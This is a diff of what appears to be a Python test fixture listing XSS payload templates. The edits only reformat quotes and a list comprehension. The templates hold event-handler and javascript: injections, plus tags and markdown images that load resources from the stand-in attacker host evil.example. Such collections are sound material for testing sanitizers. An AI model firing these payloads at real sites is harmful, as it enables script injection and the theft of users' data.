@@ -26,18 +26,18 @@ _SHAPES = [
     "<svg><animate onbegin={do} attributeName=x dur=1s>",
     "<math><mtext><style><img src=x onerror={do}></style>",
     "<body onload={do}>",
-    "<iframe src=\"javascript:{do}\"></iframe>",
+    '<iframe src="javascript:{do}"></iframe>',
     "<iframe srcdoc='<script>{do}</script>'></iframe>",
-    "<object data=\"javascript:{do}\"></object>",
+    '<object data="javascript:{do}"></object>',
     "<embed src=//evil.example/{n}>",
     "<link rel=stylesheet href=//evil.example/{n}.css>",
     "<style>@import '//evil.example/{n}.css';</style>",
     "<base href=//evil.example/{n}/>",
-    "<meta http-equiv=refresh content=\"0;url=javascript:{do}\">",
+    '<meta http-equiv=refresh content="0;url=javascript:{do}">',
     "<form action=//evil.example/><input autofocus onfocus={do}>",
     "<details open ontoggle={do}>",
     "<video><source onerror={do}></video>",
-    "<a href=\"javascript:{do}\">x</a>",
+    '<a href="javascript:{do}">x</a>',
     "[x](javascript:{do})",
     "![x](//evil.example/{n}.png)",
     "![x][r]\n\n[r]: //evil.example/{n}.png",
@@ -50,6 +50,4 @@ _SHAPES = [
     "&lt;img src=x onerror={do}&gt;",
     "%3Cscript%3E{do}%3C/script%3E",
 ]
-PAYLOADS = [
-    shape.format(do=do, n=n) for shape in _SHAPES for n, do in enumerate(_DO, start=1)
-]
+PAYLOADS = [shape.format(do=do, n=n) for shape in _SHAPES for n, do in enumerate(_DO, start=1)]
